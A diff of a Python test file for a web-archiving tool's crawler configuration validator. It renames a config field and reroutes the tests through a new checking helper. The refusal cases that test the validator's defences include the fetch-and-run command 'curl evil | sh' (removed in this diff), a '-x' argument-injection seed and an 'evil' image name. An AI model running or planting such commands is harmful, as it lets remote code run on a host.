@@ -8,13 +8,12 @@ from typing import Any
 import pytest
 
 from holdfast.config import ZimitSettings, load
-from holdfast.sources.config import read_config
+from holdfast.sources.config import SourceConfig, ZimitConfig, read_config
 from holdfast.zimit.errors import FlagRefused, ToolConfigRefused
 from holdfast.zimit.flags import (
-    JobConfig,
     annual_caps,
     below_minimum,
-    read_job_config,
+    check_job_config,
     read_options,
     tool_command,
     tool_flags,
@@ -24,7 +23,7 @@ from holdfast.zimit.passthrough import strip_separator
 HOST = ZimitSettings(vpn_command="vpn up", store_root=None)
 FULL: dict[str, Any] = {
     "seeds": ["https://example.org/"],
-    "zimit_passthrough_args": ["--scopeType", "host"],
+    "passthrough_args": ["--scopeType", "host"],
     "tool_options": {
         "cleanup": True, "overwrite": True, "skip_final_build": True, "enable_monitoring": True,
         "enable_adaptive_workers": True, "enable_adaptive_restart": True, "enable_vpn_rotation": True,
@@ -38,11 +37,10 @@ FULL: dict[str, Any] = {
         "capture_backend": "http_warc", "resume_policy": "fresh_only", "fallback_backend": "http_warc",
         "max_fresh_failures_before_fallback": 2, "auto_reset_poisoned_state": True, "max_temp_dirs_before_reset": 9,
     },
-    "campaign_year": 2026,
 }  # fmt: skip
 DOCUMENT = {
     "seeds": ["https://www.canada.ca/en/health-canada.html"],
-    "zimit_passthrough_args": ["--scopeType", "host"],
+    "passthrough_args": ["--scopeType", "host"],
     "tool_options": {
         "cleanup": False, "overwrite": False, "skip_final_build": True, "enable_monitoring": True,
         "enable_adaptive_workers": True, "enable_adaptive_restart": True, "enable_vpn_rotation": False,
@@ -53,12 +51,17 @@ DOCUMENT = {
 }  # fmt: skip
 
 
+def _checked(content: dict[str, Any], host: ZimitSettings = HOST) -> SourceConfig:
+    seeds, zimit = content["seeds"], {name: value for name, value in content.items() if name != "seeds"}
+    return check_job_config(read_config({"seeds": seeds, "backend": "zimit", "zimit": zimit}), host)
+
+
 def _with(**options: Any) -> dict[str, Any]:
     return {"seeds": ["https://example.org/"], "tool_options": options}
 
 
 def test_every_flag_stands_in_the_agreed_order() -> None:
-    flags = tool_flags(read_job_config(FULL, HOST), HOST)
+    flags = tool_flags(_checked(FULL).zimit, HOST)
 
     assert flags == [
         "--initial-workers", "2", "--cleanup", "--overwrite", "--log-level", "DEBUG", "--docker-shm-size", "1g",
@@ -75,7 +78,7 @@ def test_every_flag_stands_in_the_agreed_order() -> None:
 
 @pytest.mark.parametrize("content", [FULL, DOCUMENT])
 def test_the_tool_understands_what_the_contract_writes(content: dict[str, Any]) -> None:
-    config = read_job_config(content, HOST)
+    config = _checked(content)
     command = tool_command(config, HOST, name="hc-20251209", output_dir=Path("out"))
 
     assert command[0] == "archive-tool"
@@ -87,7 +90,7 @@ def test_the_tool_understands_what_the_contract_writes(content: dict[str, Any]) 
 
 def test_the_program_may_be_several_words() -> None:
     host = ZimitSettings(command="python -m 'holdfast.zimit'", image="ghcr.io/openzim/zimit:3.0", store_root=Path("/s"))
-    command = tool_command(read_job_config(DOCUMENT, host), host, name="x", output_dir=Path("/s/out"))
+    command = tool_command(_checked(DOCUMENT, host), host, name="x", output_dir=Path("/s/out"))
 
     assert command[:3] == ["python", "-m", "holdfast.zimit"]
     assert command[command.index("--docker-image") + 1] == "ghcr.io/openzim/zimit:3.0"
@@ -101,19 +104,18 @@ def test_the_server_s_settings_decide_what_runs_on_the_host(monkeypatch: pytest.
 
     assert host.flags == ("custom-css", "blockList")
     assert host.vpn_command == "vpn up"
-    content = {"seeds": ["https://example.org/"], "zimit_passthrough_args": ["--custom-css", "/output/x.css"]}
-    command = tool_command(read_job_config(content, host), host, name="x", output_dir=Path("out"))
+    content = {"seeds": ["https://example.org/"], "passthrough_args": ["--custom-css", "/output/x.css"]}
+    command = tool_command(_checked(content, host), host, name="x", output_dir=Path("out"))
     assert read_options(command[1:]).zimit[0].name == "--custom-css"
 
 
 def test_groups_appear_only_with_what_they_need() -> None:
     """A stored configuration loses a group rather than the run."""
-    config = read_job_config(DOCUMENT, HOST)
     quiet = {
         "enable_adaptive_workers": True, "min_workers": 1, "stall_timeout_minutes": 5, "backoff_delay_minutes": 1,
         "enable_vpn_rotation": True, "max_container_restarts": 3,
     }  # fmt: skip
-    flags = tool_flags(JobConfig(seeds=config.seeds, tool_options=quiet), HOST)
+    flags = tool_flags(ZimitConfig(tool_options=quiet), HOST)
 
     assert flags == ["--initial-workers", "1", "--log-level", "INFO"]
 
@@ -121,18 +123,9 @@ def test_groups_appear_only_with_what_they_need() -> None:
 @pytest.mark.parametrize(
     ("content", "field"),
     [
-        ({}, "seeds"),
-        ({"seeds": []}, "seeds"),
-        ({"seeds": "https://example.org/"}, "seeds"),
-        ({"seeds": ["-x"]}, "seeds"),
-        ({"seeds": ["https://example.org/"], "shell": "x"}, "config.shell"),
-        ({"seeds": ["https://example.org/"], "zimit_passthrough_args": "--x"}, "zimit_passthrough_args"),
-        (_with(enable_adaptive_workers=True), "tool_options.enable_adaptive_workers"),
-        (_with(enable_adaptive_restart=True), "tool_options.enable_adaptive_restart"),
-        (_with(enable_vpn_rotation=True), "tool_options.enable_vpn_rotation"),
+        ({"seeds": ["https://example.org/a,b"]}, "seeds"),
         (_with(backoff_delay_minutes=2), "tool_options.backoff_delay_minutes"),
         (_with(stall_timeout_minutes=5), "tool_options.stall_timeout_minutes"),
-        (_with(vpn_connect_command="curl evil | sh"), "tool_options.vpn_connect_command"),
         (_with(docker_image="evil"), "tool_options.docker_image"),
         (_with(initial_workers=0), "tool_options.initial_workers"),
         (_with(initial_workers=True), "tool_options.initial_workers"),
@@ -143,29 +136,28 @@ def test_groups_appear_only_with_what_they_need() -> None:
         (_with(browsertrix_config={"proxyServer": "x"}), "browsertrix_config.proxyServer"),
         ({"seeds": ["https://example.org/"], "execution_policy": {"fallback_backend": "x"}},
          "execution_policy.fallback_backend"),
-        ({"seeds": ["https://example.org/"], "execution_policy": []}, "execution_policy"),
     ],
 )  # fmt: skip
 def test_a_configuration_is_refused_with_the_field_that_is_wrong(content: dict[str, Any], field: str) -> None:
     with pytest.raises(ToolConfigRefused) as refused:
-        read_job_config(content, HOST)
+        _checked(content)
 
     assert refused.value.field == field
 
 
 def test_a_flag_that_zimit_may_not_have_is_refused_before_anything_is_queued() -> None:
-    content = {"seeds": ["https://example.org/"], "zimit_passthrough_args": ["--unknown"]}
+    content = {"seeds": ["https://example.org/"], "passthrough_args": ["--unknown"]}
 
     with pytest.raises(FlagRefused):
-        read_job_config(content, HOST)
+        _checked(content)
 
 
 def test_a_vpn_needs_a_command_of_the_server() -> None:
     content = _with(enable_monitoring=True, enable_vpn_rotation=True)
 
-    assert read_job_config(content, HOST).tool_options["enable_vpn_rotation"]
+    assert _checked(content).zimit.tool_options["enable_vpn_rotation"]
     with pytest.raises(ToolConfigRefused):
-        read_job_config(content, ZimitSettings())
+        _checked(content, ZimitSettings())
 
 
 def test_one_leading_separator_is_dropped() -> None:
@@ -174,11 +166,11 @@ def test_one_leading_separator_is_dropped() -> None:
 
 
 def test_annual_jobs_get_their_minima_and_no_caps() -> None:
-    low = read_job_config({**_with(enable_monitoring=True, max_container_restarts=2, error_threshold_http=99,
+    low = _checked({**_with(enable_monitoring=True, max_container_restarts=2, error_threshold_http=99,
                                    backoff_delay_minutes=9),
-                           "zimit_passthrough_args": ["--pageLimit", "5", "--depth=2"]}, HOST)  # fmt: skip
-    raised = below_minimum(low.tool_options, annual=True)
-    quiet = below_minimum(read_job_config(_with(), HOST).tool_options, annual=True)
+                           "passthrough_args": ["--pageLimit", "5", "--depth=2"]})  # fmt: skip
+    raised = below_minimum(low.zimit.tool_options, annual=True)
+    quiet = below_minimum(_checked(_with()).zimit.tool_options, annual=True)
 
     assert raised == {"max_container_restarts": 20, "error_threshold_timeout": 50, "backoff_delay_minutes": 2}
     assert quiet == {"max_container_restarts": 20}
@@ -198,7 +190,7 @@ def test_what_could_only_fail_when_it_runs_is_refused_when_it_is_saved(
     group: str, values: dict[str, Any], field: str
 ) -> None:
     with pytest.raises(ToolConfigRefused) as refused:
-        read_job_config({"seeds": ["https://example.org/"], group: values}, HOST)
+        _checked({"seeds": ["https://example.org/"], group: values})
 
     assert refused.value.field == field
 
